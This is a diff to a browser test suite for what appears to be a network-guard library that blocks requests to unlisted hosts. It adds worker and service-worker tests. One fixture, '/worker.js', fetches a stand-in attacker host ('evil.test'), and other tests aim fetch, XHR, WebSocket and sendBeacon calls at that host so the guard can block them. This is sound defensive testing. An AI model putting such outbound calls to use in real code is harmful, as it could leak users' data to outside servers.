@@ -29,7 +29,8 @@ before(async () => {
   stage.pages.set("/walled", { body: guarded(text), headers: { [wall.name]: wall.value } });
   stage.pages.set("/report", { body: guarded(policy({ ...LISTS, mode: "report" })) });
   stage.pages.set("/off", { body: guarded(policy({ ...LISTS, mode: "off" })) });
-  stage.pages.set("/workers", { body: guarded(text, `{ own: [location.origin, "blob:"] }`) });
+  stage.pages.set("/workers", { body: guarded(text, `{ workers: [location.origin, "blob:"] }`) });
+  stage.pages.set("/worker.js", { type: "text/javascript", body: 'fetch("https://evil.test/files/worker", { mode: "no-cors" }).then(() => postMessage(1));' });
   stage.pages.set("/early", { body: guarded(null) });
   stage.pages.set("/quiet", { body: guarded(text, "{}", "exposeReason: false,") });
   stage.pages.set("/naked", { body: "<!doctype html><title>app</title><body><script>window.ready = true</script>" });
@@ -129,6 +130,15 @@ denied("EventSource: one error, closed, no second try", `
   const source = new EventSource(EVIL); const log = heard(source, "error"); await wait(3500); return [log, source.readyState, source.permission.code];`, [["error"], 2, "host_not_listed"]);
 denied("sendBeacon answers false, and true for a listed server", `return [navigator.sendBeacon(EVIL, "x"), navigator.sendBeacon(GOOD, "x"), Navigator.prototype.sendBeacon.call(navigator, EVIL)];`, [false, true, false]);
 denied("fetchLater never sends", `return [typeof fetchLater === "function" ? fetchLater(EVIL, { activateAfter: 0 }).activated : false];`, [false]);
+denied("workers of the app's own origin, and service workers, have to be let in: each is a realm with a network of its own", `
+  const heardOf = async (worker) => { const log = heard(worker, "error"); await wait(300); return [log, worker.permission.code]; };
+  const shared = await heardOf(new SharedWorker("/worker.js")), own = await heardOf(new Worker("/worker.js"));
+  return [own, shared, await navigator.serviceWorker.register("/worker.js").then(() => "passed", (error) => [error.name, error.permission.code])];`,
+  [[["error"], "not_https"], [["error"], "not_https"], ["TypeError", "not_https"]]);
+test("a worker of the app's own origin comes where the host lets it, and is a network of its own", async () => {
+  const { value, evil } = await inPage("workers", `const worker = new Worker("/worker.js"); return new Promise((done) => { worker.onmessage = () => done("came"); worker.onerror = () => done("failed"); });`);
+  assert.deepEqual([value, evil.length], ["came", 1]);
+});
 denied("workers from a blob have an error, and come where the host lets them", `
   const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); const log = heard(worker, "error", "message"); await wait(300); return log;`, ["error"]);
 test("workers from a blob come where the host lets them", async () => {
@@ -189,7 +199,7 @@ denied("poisoned built-ins change no verdict", `${rejected}
   const xhr = new XMLHttpRequest(); xhr.open("GET", EVIL); const f = document.createElement("iframe"); f.setAttribute("src", EVIL); document.body.appendChild(f); const s = new WebSocket("wss://evil.test");
   return first + " " + xhr.permission.code + " " + f.permission.code + " " + s.permission.code;`, Array(4).fill("host_not_listed").join(" "));
 denied("the report says what is guarded, and names no guarded channel as open", `return [report.degraded, ["fetch", "XMLHttpRequest", "WebSocket", "iframe.srcdoc", "script.src"].filter((one) => !report.patched.includes(one)), report.ambient];`,
-  [[], [], ["RTCPeerConnection", "Image", "Audio", "caches", "navigator.serviceWorker"]]);
+  [[], [], ["RTCPeerConnection", "Image", "Audio", "caches"]]);
 
 denied("an attribute node that belongs to another element keeps its value", `
   const f = document.createElement("iframe"), g = document.createElement("iframe"); f.src = PAGE; let name; try { g.setAttributeNode(f.attributes.src); } catch (thrown) { name = thrown.name; } return [name, f.src];`, ["InUseAttributeError", "https://www.good.test/page/x"]);
